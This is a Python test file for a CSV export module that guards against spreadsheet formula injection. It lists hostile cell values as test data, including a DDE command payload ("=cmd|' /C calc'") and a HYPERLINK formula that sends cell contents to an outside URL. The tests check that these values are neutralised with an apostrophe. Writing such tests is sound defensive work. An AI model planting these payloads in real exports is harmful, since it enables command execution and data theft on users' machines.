"""CSV that a spreadsheet opens: numbers stay numbers, and no text is ever calculated."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from api.sheets import RISKY, sheet

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "\uff1d1+1",
    "-2+3+cmd|' /C calc'!A0",
)
HARMLESS = ("Acme", "1 seat", "a=b", "x-y", 'say "hi"', "a,b;c", "two\nlines", "'quoted", "", "日本 😀")


def read(content: bytes) -> list[list[str]]:
    """Read a CSV back."""
    return list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_text_that_would_be_calculated_gets_an_apostrophe(text: str) -> None:
    ((cell, after),) = read(sheet([(text, "after")]))

    assert (cell, after) == (f"'{text}", "after")
    assert not cell.startswith(RISKY)


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_other_text_comes_back_as_it_was(text: str) -> None:
    assert read(sheet([(text, text)])) == [[text, text]]


def test_numbers_and_days_stay_what_they_are() -> None:
    content = sheet([(Decimal("-20.80"), -6, 0, Decimal("0.0175"), date(2026, 9, 1), None)])

    assert content == b'-20.80,-6,0,0.0175,"2026-09-01",""\r\n'


def test_a_file_begins_with_its_first_name_and_every_text_is_quoted() -> None:
    assert sheet([("day", "units")]) == b'"day","units"\r\n'


def test_half_a_surrogate_pair_does_not_stop_a_file() -> None:
    assert read(sheet([("\ud800",)])) == [["?"]]
